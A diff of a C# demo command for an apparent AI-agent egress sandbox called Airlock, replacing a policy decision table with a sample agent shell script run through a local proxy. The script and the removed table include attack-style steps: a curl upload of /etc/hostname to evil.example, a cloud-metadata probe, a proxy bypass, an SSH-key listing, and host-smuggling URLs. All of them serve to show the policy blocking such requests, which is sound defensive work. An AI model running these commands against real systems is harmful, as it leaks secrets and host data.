@@ -1,130 +1,101 @@
 using System.CommandLine;
 using System.Net;
-using Airlock.Cli.Console;
-using Airlock.Cli.Policies;
-using Airlock.Policy.Decisions;
+using Airlock.Cli.Run;
 using Airlock.Policy.Loading;
-using Spectre.Console;
+using Airlock.Sandboxes.Local;
 
 namespace Airlock.Cli.Demo;
 
 /// <summary>
-/// <c>airlock demo</c>: what an agent under the embedded example policy may and may not reach, decided by the
-/// same engine the proxy uses. Works offline: nothing is dialled.
+/// <c>airlock demo</c>: an example agent script runs in a real local sandbox under the embedded example policy,
+/// through the real proxy, against local stand-in origins, so it works offline and shows the real thing:
+/// allowed, denied, L7-denied and credential-injected requests, and what cannot get out at all.
 /// </summary>
 internal static class DemoCommand
 {
-    private const string EmbeddedPolicy = "Airlock.Cli.coding-agent.yaml";
+    private const string EmbeddedPolicy = "Airlock.Cli.demo.yaml";
 
-    /// <summary>What the example agent tries, with the addresses its hosts resolve to.</summary>
-    private static readonly (string Method, string Url, string? ResolvesTo, string Why)[] AgentSteps =
-    [
-        ("GET", "https://api.github.com/repos/dotnet/runtime/issues", "140.82.112.6", "reads issues"),
-        ("POST", "https://api.github.com/repos/dotnet/runtime/issues", "140.82.112.6", "tries to open an issue (read-only rule)"),
-        ("GET", "https://raw.githubusercontent.com/dotnet/runtime/main/README.md", "185.199.108.133", "reads a file"),
-        ("GET", "https://registry.npmjs.org/left-pad", "104.16.0.35", "installs a package (TLS passthrough)"),
-        ("POST", "https://api.anthropic.com/v1/messages", "160.79.104.10", "calls the model; the proxy injects the key"),
-        ("GET", "tcp://github.com:22", "140.82.112.4", "git over ssh (opaque TCP)"),
-        ("GET", "https://gist.github.com/", "140.82.112.3", "tries gists (deny rule)"),
-        ("GET", "https://api.github.com/user", "10.0.0.7", "DNS says api.github.com is 10.0.0.7 (rebinding)"),
-        ("GET", "http://169.254.169.254/latest/meta-data/", null, "probes cloud metadata"),
-        ("POST", "https://evil.example/upload", "203.0.113.50", "exfiltrates to an unknown host"),
-        ("GET", "https://0x7f.1/", null, "hides 127.0.0.1 in a hex spelling"),
-        ("GET", "https://api.github.com%00.evil.example/", null, "smuggles a NUL into the host"),
-    ];
+    /// <summary>The names the stand-in origins answer for.</summary>
+    private static readonly string[] Names = ["api.github.com", "raw.githubusercontent.com", "gist.github.com", "api.anthropic.com", "registry.npmjs.org", "evil.example"];
+
+    /// <summary>The example agent: what a coding agent might try, each step labelled.</summary>
+    private const string AgentScript = """
+        #!/bin/sh
+        step() { printf '\n\033[1m%s\033[0m\n' "$1"; }
+        call() { curl -sS --max-time 10 "$@"; echo; }
+        step "1. read issues (allowed: read-only GitHub rule)"
+        call https://api.github.com/repos/dotnet/runtime/issues
+        step "2. open an issue (denied: the rule allows GET and HEAD only)"
+        call -X POST --data '{"title":"x"}' https://api.github.com/repos/dotnet/runtime/issues
+        step "3. call the model without a key (allowed: the proxy injects x-api-key)"
+        call -X POST --data '{"model":"m"}' https://api.anthropic.com/v1/messages
+        step "4. post a gist (denied by a deny rule)"
+        call https://gist.github.com/
+        step "5. exfiltrate to an unknown host (denied by default)"
+        call -X POST --data @/etc/hostname https://evil.example/upload
+        step "6. probe cloud metadata (denied)"
+        call http://169.254.169.254/latest/meta-data/
+        step "7. ignore the proxy and connect directly (no network but loopback)"
+        curl -sS --max-time 5 --noproxy '*' https://1.1.1.1/ 2>&1 | head -1
+        step "8. read the user's SSH keys (hidden)"
+        ls -A ~/.ssh 2>&1 | head -3; echo "(nothing there)"
+        """;
 
     public static Command Create(TextWriter stdout, TextWriter stderr)
     {
-        var policyOption = new Option<string?>("--policy") { Description = "Use this policy instead of the embedded example." };
-        var command = new Command("demo", "Show, offline, what an example agent may and may not reach under an example policy.") { policyOption };
-        command.SetAction(parse =>
+        var command = new Command("demo", "Run an example agent in a local sandbox under an example policy, offline, and show what the proxy decided.");
+        command.SetAction(async (_, cancellationToken) =>
         {
-            var path = parse.GetValue(policyOption);
-            var result = path is null ? LoadEmbedded() : PolicyLoader.LoadFile(path);
-            foreach (var diagnostic in result.Diagnostics)
+            var loaded = LoadEmbedded();
+            if (loaded.Policy is not { } policy)
             {
-                stderr.WriteLine(diagnostic.ToString());
-            }
+                foreach (var diagnostic in loaded.Diagnostics)
+                {
+                    stderr.WriteLine(diagnostic.ToString());
+                }
 
-            if (result.Policy is not { } policy)
-            {
                 return ExitCodes.InvalidPolicy;
             }
 
-            Run(Terminal.Over(stdout), EgressDecisionEngine.Compile(policy));
-            return ExitCodes.Success;
+            await using var origin = await DemoOrigin.StartAsync().ConfigureAwait(false);
+            var workdir = Directory.CreateTempSubdirectory("airlock-demo-");
+            try
+            {
+                await File.WriteAllTextAsync(Path.Combine(workdir.FullName, "agent.sh"), AgentScript, cancellationToken).ConfigureAwait(false);
+                stdout.WriteLine("airlock demo: an example agent in a local sandbox under examples/policies/demo.yaml (embedded).");
+                stdout.WriteLine($"Stand-in origins for {string.Join(", ", Names)} run on 127.0.0.1:{origin.Port}; nothing leaves this machine.");
+                stdout.Flush();
+                var result = await LocalRun.RunAsync(
+                    new LocalRunOptions
+                    {
+                        Policy = policy,
+                        Command = ["sh", "agent.sh"],
+                        AirlockCommand = RunCommand.SelfCommand(),
+                        WorkDirectory = workdir.FullName,
+                        Secrets = name => name == "ANTHROPIC_API_KEY" ? "sk-demo-0000-not-a-real-key" : null,
+                        Timeout = TimeSpan.FromMinutes(2),
+                        EventsPath = Path.Combine(workdir.FullName + "-events.ndjson"),
+                        Resolve = Names.ToDictionary(n => n, _ => new[] { IPAddress.Loopback }, StringComparer.Ordinal),
+                        ResolvePorts = Names.ToDictionary(n => n, _ => origin.Port, StringComparer.Ordinal),
+                        UpstreamRoots = [origin.CertificateAuthority.Certificate],
+                        Report = stderr,
+                    },
+                    cancellationToken).ConfigureAwait(false);
+                return result.ExitCode;
+            }
+            finally
+            {
+                workdir.Delete(recursive: true);
+            }
         });
         return command;
     }
-
-    private static string RuleColumn(EgressDecision decision) => decision switch
-    {
-        { Rule: { } rule } => $"egress[{rule.Index}] {rule.Name ?? rule.Host.Text}",
-        { Reason: DecisionReason.DefaultDeny or DecisionReason.DefaultAllow } => "default",
-        _ => "-",
-    };
 
     private static PolicyLoadResult LoadEmbedded()
     {
         using var stream = typeof(DemoCommand).Assembly.GetManifestResourceStream(EmbeddedPolicy)
             ?? throw new InvalidOperationException($"embedded resource {EmbeddedPolicy} is missing");
         using var reader = new StreamReader(stream);
-        return PolicyLoader.Parse(reader.ReadToEnd(), "examples/policies/coding-agent.yaml (embedded)");
-    }
-
-    private static void Run(IAnsiConsole console, EgressDecisionEngine engine)
-    {
-        console.MarkupLineInterpolated($"[bold]Airlock demo[/]: an agent under policy [bold]{engine.Policy.Name ?? engine.Policy.Source}[/] ({engine.Policy.Source})");
-        console.WriteLine();
-        var table = new Table().Border(TableBorder.Rounded)
-            .AddColumn("decision").AddColumn("request").AddColumn("reason").AddColumn("rule").AddColumn("the agent…");
-        int allowed = 0, denied = 0;
-        foreach (var (method, url, resolvesTo, why) in AgentSteps)
-        {
-            if (!ExplainTarget.TryParse(url, out var target, out var error))
-            {
-                throw new InvalidOperationException($"demo step {url}: {error}");
-            }
-
-            var resolve = new Dictionary<string, IReadOnlyList<IPAddress>>(StringComparer.Ordinal);
-            if (resolvesTo is not null && Airlock.Policy.Hosts.HostCanonicalizer.TryCanonicalize(target.Host, out var host, out _))
-            {
-                resolve[host.Value] = [IPAddress.Parse(resolvesTo)];
-            }
-
-            var explanation = PolicyExplanation.Explain(engine, target, method, resolve);
-            var final = explanation.Final;
-            var decision = final.Verdict switch
-            {
-                Verdict.Allow => "[green]allow[/]",
-                Verdict.Pending => "[yellow]ask[/]",
-                _ => "[red]deny[/]",
-            };
-            if (final.IsAllowed)
-            {
-                allowed++;
-            }
-            else
-            {
-                denied++;
-            }
-
-            var request = target.IsHttp ? $"{method} {url}" : url;
-            var reason = final.ReasonName;
-            if (final.IsAllowed && final.Rule is { Inject.IsDefaultOrEmpty: false } rule)
-            {
-                reason += " + inject " + string.Join(", ", rule.Inject.Select(i => i.Header));
-            }
-
-            table.AddRow(
-                new Markup(decision),
-                new Text(request),
-                new Text(reason),
-                new Text(RuleColumn(final)),
-                new Text(why));
-        }
-
-        console.Write(table);
-        console.MarkupLineInterpolated($"{allowed} allowed, {denied} denied. Explain one yourself: [bold]./airlock policy explain examples/policies/coding-agent.yaml --url https://api.github.com/user[/]");
+        return PolicyLoader.Parse(reader.ReadToEnd(), "examples/policies/demo.yaml (embedded)");
     }
 }
